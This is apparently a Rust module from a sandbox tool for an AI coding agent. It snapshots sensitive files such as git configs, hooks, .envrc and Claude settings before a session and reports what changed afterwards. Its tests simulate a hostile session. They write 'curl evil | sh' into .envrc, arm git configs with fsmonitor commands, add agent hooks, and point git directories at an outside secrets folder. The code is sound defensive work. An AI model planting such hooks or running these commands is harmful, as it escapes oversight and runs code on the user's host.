//! The session's watch: [`Watch::start`] snapshots every watched path
//! before the sandbox starts; [`Watch::finish`] scans again when it ends
//! (the workspace discovered again, so repositories created during the
//! session are watched too), compares, records and prints.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use super::change::{Change, Mark, Old};
use super::compare::compare;
use super::log::{block, log_dir, record, Session, VERSION};
use super::scan::{scan, stamp, targets, untouched_before, Kind, Tree};
use crate::plan::protect;

/// A path first found at exit (in a repository created during the session)
/// is taken as there before when its inode last changed this long before
/// the launch (ctime cannot be set back from inside; the kernel's clock
/// for it is coarse).
const SLACK: Duration = Duration::from_secs(1);

/// The snapshot of one session, taken before the sandbox starts.
pub(crate) struct Watch {
    started: SystemTime,
    home: PathBuf,
    workspace: PathBuf,
    before: BTreeMap<PathBuf, (Kind, Tree)>,
    /// The pointers out of the workspace the launch found (and named).
    outside: Vec<protect::Outside>,
}

impl Watch {
    /// Snapshot every watched path of `workspace` and `home`; `found` is the
    /// launch's own walk of the workspace (the plan's), not repeated here.
    pub(crate) fn start(home: &Path, workspace: &Path, found: protect::Protected) -> Watch {
        let started = SystemTime::now();
        let outside = found.outside.clone();
        let before = targets(home, workspace, found)
            .into_iter()
            .map(|(p, k)| {
                let t = scan(&p, k, None);
                (p, (k, t))
            })
            .collect();
        Watch {
            started,
            home: home.to_path_buf(),
            workspace: workspace.to_path_buf(),
            before,
            outside,
        }
    }

    /// What changed since [`Watch::start`].
    #[cfg(test)]
    pub(super) fn changes(&self) -> Vec<Change> {
        self.survey().0
    }

    /// What changed since [`Watch::start`], the workspace walked again to
    /// any depth ([`protect::discover_all`]: repositories created during
    /// the session, or out of the launch's walk, are watched too), and the
    /// lines saying where that walk ran out of time or what it could not list.
    pub(super) fn survey(&self) -> (Vec<Change>, Vec<String>) {
        let mut all: BTreeMap<PathBuf, Kind> = self
            .before
            .iter()
            .map(|(p, (k, _))| (p.clone(), *k))
            .collect();
        let found = protect::discover_all(&self.workspace, protect::exit_budget());
        let notes = found.walk_notices(&self.workspace);
        let outside = found.outside.clone();
        for (p, k) in targets(&self.home, &self.workspace, found) {
            all.entry(p).or_insert(k);
        }
        let since = self.started.checked_sub(SLACK).unwrap_or(UNIX_EPOCH);
        let mut out = Vec::new();
        for (p, k) in all {
            let prev = self.before.get(&p).map(|(_, t)| t);
            let now = scan(&p, k, prev);
            let found_now;
            let old = match prev {
                Some(t) => t,
                None => {
                    found_now = first_seen(&p, &now, since);
                    &found_now
                }
            };
            let change = compare(&p, k, old, &now);
            out.extend(change.map(|c| created_only(c, &p, &now, since, prev.is_some())));
        }
        for o in outside {
            if !self.named_at_launch(&o, since) {
                note_outside(&mut out, o);
            }
        }
        out.sort_by(|a, b| a.path.cmp(&b.path));
        (out, notes)
    }

    /// Whether pointer `o` was there, leading to the same place, before the
    /// session: the launch named it (or its walk did not reach it, and it
    /// has not changed since).
    fn named_at_launch(&self, o: &protect::Outside, since: SystemTime) -> bool {
        use std::os::unix::fs::MetadataExt;
        // A work tree turns outward by a symlink or rename anywhere on its
        // way, which leaves the config's own times alone: only the
        // launch's own finding of the same vouches for it.
        self.outside.contains(o)
            || !o.is_config()
                && o.pointer.symlink_metadata().is_ok_and(|m| {
                    !self.outside.iter().any(|b| b.pointer == o.pointer)
                        && (m.ctime(), m.ctime_nsec()) < stamp(since)
                })
    }

    /// At the end of a session that ran: record the changes and what was
    /// held for the user (issue #44: `held`, and the lines naming what
    /// could not be), then print them in one block on stderr, then say
    /// where the walk ran out of time or what it could not list, if so.
    /// An unchanged session that held nothing prints and writes nothing.
    pub(crate) fn finish(self, held: (Vec<crate::held::Item>, Vec<String>)) {
        let (changes, notes) = self.survey();
        let (held, held_notes) = held;
        let mut text = String::new();
        if !changes.is_empty() || !held.is_empty() {
            let session = Session {
                version: VERSION,
                started: stamp(self.started).0,
                ended: stamp(SystemTime::now()).0,
                workspace: self.workspace.clone(),
                changes,
                held,
            };
            text = block(&session.changes, &session.held);
            if let Err(e) = record(&self.home, &session) {
                text.push_str(&format!(
                    "claude-sandbox: these changes could not be recorded in {} ({e}): `review` cannot undo or apply them\n",
                    log_dir(&self.home).display()
                ));
            }
        }
        for line in held_notes.into_iter().chain(notes) {
            text.push_str(&line);
            text.push('\n');
        }
        // A closed terminal must not make this panic: the log is written.
        let _ = std::io::stderr().write_all(text.as_bytes());
    }
}

/// What a path first found at exit held before the session: what its
/// inode times show predates it ([`untouched_before`]). When the path
/// itself is new but its directory is older (an existing repository the
/// launch's walk did not reach, its config replaced by `git config`'s
/// rename), what it replaced is unknown, never "absent": a revert must not
/// delete a file that may have been the user's.
fn first_seen(path: &Path, now: &Tree, since: SystemTime) -> Tree {
    let mut before = untouched_before(now, since);
    let root = PathBuf::new();
    if now.contains_key(&root) && !before.contains_key(&root) {
        let parent_older = path
            .parent()
            .and_then(|d| d.symlink_metadata().ok())
            // Without a birth time, the directory's age is unknown: assume older.
            .is_some_and(|m| m.created().map_or(true, |b| b < since));
        if parent_older {
            before.insert(root, super::scan::Entry::Unknown);
        }
    }
    before
}

/// A revert removes only what the session created: an item recorded as
/// absent before stays so only when the session provably made it — its
/// birth time is after the launch (a file moved or linked in keeps its
/// own), or, where the file system keeps no birth time, it is the watched
/// path itself, snapshotted absent at the launch. Anything else (a file a
/// bounded scan did not see at the launch, a repository first found at
/// exit) is recorded as not kept, which a revert leaves alone.
fn created_only(
    mut c: Change,
    path: &Path,
    now: &Tree,
    since: SystemTime,
    watched: bool,
) -> Change {
    let since = stamp(since);
    for it in c.items.iter_mut().filter(|i| i.old == Old::Absent) {
        let Some(rel) = it.path.strip_prefix(path).ok() else {
            it.old = Old::Unknown;
            continue;
        };
        let proven = match now.get(rel).and_then(|e| e.meta()) {
            None => true,
            Some(m) => match m.btime {
                Some(b) => b >= since,
                None => watched && rel.as_os_str().is_empty(),
            },
        };
        if !proven {
            it.old = Old::Unknown;
        }
    }
    c
}

/// A pointer out of the workspace made during the session: added to its
/// own change (the pointer file is watched), or a change of its own.
fn note_outside(out: &mut Vec<Change>, o: protect::Outside) {
    let note = o.what();
    match out.iter_mut().find(|c| c.path == o.pointer) {
        Some(c) if c.what == "(new)" => c.what = format!("(new)  {note}"),
        Some(c) => c.what = format!("{}; {note}", c.what),
        None => out.push(Change {
            path: o.pointer,
            mark: Mark::Changed,
            what: note,
            items: Vec::new(),
        }),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::super::fixtures::{tmp, world, write, CFG};
    use super::*;

    #[test]
    fn an_unchanged_session_finds_nothing_and_a_changed_one_everything() {
        let (base, home, ws) = world("detect");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        assert_eq!(w.changes(), Vec::new());
        // What a session inside could do.
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join("sub/.git/hooks/update.sample"), "#!/bin/sh\n");
        write(&ws.join(".vscode/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(
            &ws.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[]},"statusLine":{"command":"x"}}"#,
        );
        write(&home.join(".claude/settings.json"), r#"{"model":"y"}"#);
        let got: Vec<(String, char, String)> = w
            .changes()
            .into_iter()
            .map(|c| {
                let rel = c.path.strip_prefix(&base).unwrap().display().to_string();
                (rel, c.mark.sign(), c.what)
            })
            .collect();
        let want = [
            (
                "ws/.claude/settings.json",
                '+',
                "(new)  hooks.Stop added; statusLine.command added",
            ),
            ("ws/.envrc", '~', "changed"),
            ("ws/.mcp.json", '-', "(removed)"),
            ("ws/.vscode", '+', "(new)  tasks.json added"),
            (
                "ws/sub/.git/config",
                '+',
                "(new)  core.fsmonitor = touch MARK",
            ),
        ];
        let want: Vec<(String, char, String)> = want
            .iter()
            .map(|(p, m, w)| (p.to_string(), *m, w.to_string()))
            .collect();
        assert_eq!(got, want);
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn repositories_out_of_the_launchs_walk_and_pointers_out_are_reported() {
        let (base, home, ws) = world("reach");
        // There before the session, beyond the launch's walk: not a change.
        write(
            &ws.join("a/b/c/d/old/.git/config"),
            &format!("{CFG}\tfsmonitor = legit\n"),
        );
        let outside = base.join("home/.kube");
        write(&outside.join("config"), "secret");
        // A work tree inside at the launch (issue #45 item 2).
        write(
            &ws.join("w/.git/config"),
            &format!("{CFG}\tworktree = ../../wt\n"),
        );
        write(&ws.join("w/.git/HEAD"), "ref: refs/heads/main\n");
        std::fs::create_dir_all(ws.join("wt")).unwrap();
        std::thread::sleep(SLACK + Duration::from_millis(50));
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        assert_eq!(w.survey(), (Vec::new(), Vec::new()));
        let armed = format!("{CFG}\tfsmonitor = touch MARK\n");
        for d in ["a/b/c/d/e/deep", ".tools/t", "node_modules/x"] {
            write(&ws.join(d).join(".git/config"), &armed);
        }
        for d in ["objects", "refs"] {
            std::fs::create_dir_all(ws.join("src").join(d)).unwrap();
        }
        write(&ws.join("src/HEAD"), "ref: refs/heads/main\n");
        write(&ws.join("src/config"), &armed);
        write(
            &ws.join("k/.git"),
            &format!("gitdir: {}\n", outside.display()),
        );
        write(
            &ws.join(".git/commondir"),
            &format!("{}\n", outside.display()),
        );
        // The work tree turned outward by a symlink made later.
        std::fs::remove_dir(ws.join("wt")).unwrap();
        std::os::unix::fs::symlink(&outside, ws.join("wt")).unwrap();
        // The existing repository's config replaced as `git config` does.
        let old_cfg = ws.join("a/b/c/d/old/.git/config");
        write(&old_cfg.with_extension("lock"), &armed);
        std::fs::rename(old_cfg.with_extension("lock"), &old_cfg).unwrap();
        let (changes, notes) = w.survey();
        let old_change = changes
            .iter()
            .find(|c| c.path == old_cfg)
            .expect("the existing repository's config");
        assert_eq!(old_change.mark, Mark::Changed);
        assert_eq!(old_change.items[0].old, super::super::change::Old::Unknown);
        assert_eq!(old_change.what, "core.fsmonitor = touch MARK");
        let changes: Vec<Change> = changes.into_iter().filter(|c| c.path != old_cfg).collect();
        assert_eq!(notes, Vec::<String>::new());
        let got: Vec<(String, String)> = changes
            .into_iter()
            .map(|c| {
                let rel = c.path.strip_prefix(&ws).unwrap().display().to_string();
                (rel, c.what)
            })
            .collect();
        let fsm = "(new)  core.fsmonitor = touch MARK";
        let out = format!(
            "(new)  points outside the workspace ({}): not followed",
            outside.display()
        );
        let wt = format!(
            "names a work tree outside the workspace (core.worktree leads to {}): host git writes there",
            outside.display()
        );
        let want: Vec<(String, String)> = [
            (".git/commondir", out.as_str()),
            (".tools/t/.git/config", fsm),
            ("a/b/c/d/e/deep/.git/config", fsm),
            ("k/.git", out.as_str()),
            ("node_modules/x/.git/config", fsm),
            ("src/config", fsm),
            ("w/.git/config", wt.as_str()),
        ]
        .iter()
        .map(|(p, w)| (p.to_string(), w.to_string()))
        .collect();
        assert_eq!(got, want);
        std::fs::remove_dir_all(&base).unwrap();
    }

    /// The launch cost of the tripwire for an unchanged session, on this
    /// repository (run: `cargo test --release --lib -- --ignored
    /// --nocapture tripwire_cost`; reported in docs/benchmarks-history.md).
    #[test]
    #[ignore]
    fn tripwire_cost() {
        let ws = Path::new(env!("CARGO_MANIFEST_DIR"))
            .canonicalize()
            .unwrap();
        let base = tmp("cost");
        let home = base.join("home");
        write(&home.join(".claude/settings.json"), r#"{"model":"x"}"#);
        // A small and a long-used ~/.claude.json (projects with their history).
        for projects in [20, 2000] {
            let projects: serde_json::Map<String, Value> = (0..projects)
                .map(|i| {
                    let p =
                        serde_json::json!({"mcpServers": {}, "history": vec!["some prompt"; 80]});
                    (format!("/ws/p{i}"), p)
                })
                .collect();
            let big = serde_json::json!({ "numStartups": 3, "projects": projects });
            write(&home.join(".claude.json"), &big.to_string());
            let n = 50;
            let (mut snap, mut cmp) = (Duration::ZERO, Duration::ZERO);
            for _ in 0..n {
                let t = std::time::Instant::now();
                let w = Watch::start(&home, &ws, protect::discover(&ws));
                let t1 = t.elapsed();
                assert!(w.changes().is_empty());
                snap += t1;
                cmp += t.elapsed() - t1;
            }
            let n32 = n as u32;
            let watched = targets(&home, &ws, protect::discover(&ws)).len();
            let size = std::fs::metadata(home.join(".claude.json")).unwrap().len();
            println!(
                "tripwire on {}: {watched} paths, ~/.claude.json {size} bytes: snapshot {:?}, comparison {:?}, total {:?} (mean of {n})",
                ws.display(),
                snap / n32,
                cmp / n32,
                (snap + cmp) / n32
            );
            // Claude Code rewrites ~/.claude.json in every real session:
            // then both versions are parsed (after the session, not at launch).
            let w = Watch::start(&home, &ws, protect::discover(&ws));
            let bumped = big
                .to_string()
                .replace("\"numStartups\":3", "\"numStartups\":4");
            write(&home.join(".claude.json"), &bumped);
            let t = std::time::Instant::now();
            assert!(w.changes().is_empty());
            println!(
                "  comparison with ~/.claude.json rewritten: {:?}",
                t.elapsed()
            );
        }
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_linked_worktree_made_inside_is_not_a_planted_commondir() {
        let (base, home, ws) = world("worktree");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        // What `git worktree add wt` writes.
        let admin = ws.join(".git/worktrees/wt");
        write(&admin.join("HEAD"), "ref: refs/heads/wt\n");
        write(&admin.join("commondir"), "../..\n");
        write(
            &admin.join("gitdir"),
            &format!("{}\n", ws.join("wt/.git").display()),
        );
        write(
            &ws.join("wt/.git"),
            &format!("gitdir: {}\n", admin.display()),
        );
        let got: Vec<PathBuf> = w.changes().into_iter().map(|c| c.path).collect();
        assert_eq!(got, vec![ws.join("wt/.git")], "only the new pointer");
        // Control: in the repository's own git directory it is reported.
        write(&ws.join(".git/commondir"), "../c\n");
        let got: Vec<PathBuf> = w.changes().into_iter().map(|c| c.path).collect();
        assert!(got.contains(&ws.join(".git/commondir")), "{got:?}");
        std::fs::remove_dir_all(&base).unwrap();
    }
}
